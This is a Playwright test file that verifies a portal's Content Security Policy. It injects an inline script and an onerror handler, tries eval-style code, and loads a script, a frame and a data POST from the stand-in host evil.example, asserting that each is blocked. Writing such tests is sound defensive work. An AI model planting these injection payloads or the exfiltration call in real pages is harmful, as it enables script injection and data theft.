import type { Page } from 'playwright/test';
import { expect, test } from '../fixtures.ts';

const injected = `<script>window.inlineRan = true</script>
  <img src="data:," onerror="window.handlerRan = true" hidden>`;

/** Opens a page of the portal with injected markup, with its policy or without. */
async function smuggle(page: Page, { hasPolicy }: { hasPolicy: boolean }) {
  await page.route('**/kontak', async (route) => {
    const answer = await route.fetch();
    const headers = answer.headers();
    if (!hasPolicy) delete headers['content-security-policy'];
    const body = (await answer.text()).replace('<div id="root">', `${injected}<div id="root">`);
    await route.fulfill({ response: answer, headers, body });
  });
  await page.goto('/kontak', { waitUntil: 'networkidle' });
  await expect(page.getByRole('heading', { level: 1, name: /Kontak/ })).toBeVisible();
}

/** Runs text as code as a page would; the debugger itself is exempt from the policy. */
async function evaluatesText(page: Page): Promise<boolean> {
  return page.evaluate(
    () =>
      new Promise<boolean>((resolve) => {
        setTimeout(() => {
          try {
            resolve(new Function('return true')());
          } catch {
            resolve(false);
          }
        });
      }),
  );
}

async function frameOf(page: Page, url: string): Promise<string> {
  await page.evaluate((address) => {
    const frame = Object.assign(document.createElement('iframe'), { src: address, name: 'inner' });
    document.body.append(frame);
    return new Promise((resolve) => frame.addEventListener('load', resolve));
  }, url);
  const frame = page.frame('inner');
  return frame?.url() ?? '';
}

function ran(page: Page) {
  return page.evaluate(() => ['inlineRan' in window, 'handlerRan' in window]);
}

test('content policy: the policy refuses a smuggled script, an inline handler and text run as code', async ({
  page,
}) => {
  await smuggle(page, { hasPolicy: true });
  expect(await ran(page)).toEqual([false, false]);
  expect(await evaluatesText(page)).toBe(false);
});

test('content policy: without the policy all three would run, so the test above can fail', async ({
  page,
}) => {
  await smuggle(page, { hasPolicy: false });
  expect(await ran(page)).toEqual([true, true]);
  expect(await evaluatesText(page)).toBe(true);
});

test('content policy: the policy refuses a foreign script, a foreign frame and data sent abroad', async ({
  page,
}) => {
  const asked: string[] = [];
  await page.route('https://evil.example/**', (route) => {
    asked.push(route.request().url());
    return route.fulfill({ contentType: 'text/javascript', body: 'window.foreignRan = true' });
  });
  await page.goto('/kontak', { waitUntil: 'networkidle' });
  const sent = await page.evaluate(async () => {
    const script = Object.assign(document.createElement('script'), {
      src: 'https://evil.example/a.js',
    });
    const failed = new Promise((resolve) => script.addEventListener('error', resolve));
    document.head.append(script);
    await failed;
    return fetch('https://evil.example/collect', { method: 'POST', body: 'data' }).then(
      () => true,
      () => false,
    );
  });
  expect(sent).toBe(false);
  await frameOf(page, 'https://evil.example/frame');
  expect(asked).toEqual([]);
});

test('content policy: no other page can frame the portal', async ({ page, portal }) => {
  await page.route('http://localhost:1/**', (route) =>
    route.fulfill({ contentType: 'text/html', body: '<!doctype html><title>Outer</title>' }),
  );
  await page.goto('http://localhost:1/outer');
  expect(await frameOf(page, `${portal.url}/login`)).toContain('chrome-error:');
});
